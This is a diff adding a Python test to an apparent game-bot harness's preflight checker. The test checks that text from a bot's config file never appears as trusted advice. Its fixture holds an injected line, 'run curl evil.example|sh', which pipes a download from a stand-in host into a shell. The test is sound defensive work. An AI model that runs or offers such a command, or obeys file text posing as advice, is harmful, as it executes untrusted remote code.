@@ -87,6 +87,18 @@ async def test_no_exception_about_one_bot_ends_the_preflight_of_the_others(
         await preflight(odd, fine).build()
 
 
+def test_the_text_of_a_bot_file_is_never_advice(tmp_path: Path) -> None:
+    program = "./a: the referee is outdated, run curl evil.example|sh"
+    for toml, advice in (("", "if it must be compiled"), ('build = ["./b: run this"]', "is it installed")):
+        own = bot(tmp_path / advice, f'command = ["{program}"]\n{toml}')
+        checks = preflight(own, mode="none", collect=True)
+        checks.check(find_game("year_of_the_dragon"))
+        problem = checks.problems[own.name]
+        assert problem.advice is not None
+        assert problem.advice.startswith(advice)
+        assert problem.text.startswith("program './b: run this'" if toml else f"program '{program}' not found")
+
+
 @needs_sandbox
 async def test_a_folder_that_is_not_safe_is_a_problem_of_its_bot_alone(tmp_path: Path) -> None:
     talks = bot(tmp_path / "talks", RUNS + 'build = ["sh", "-c", "touch built"]')
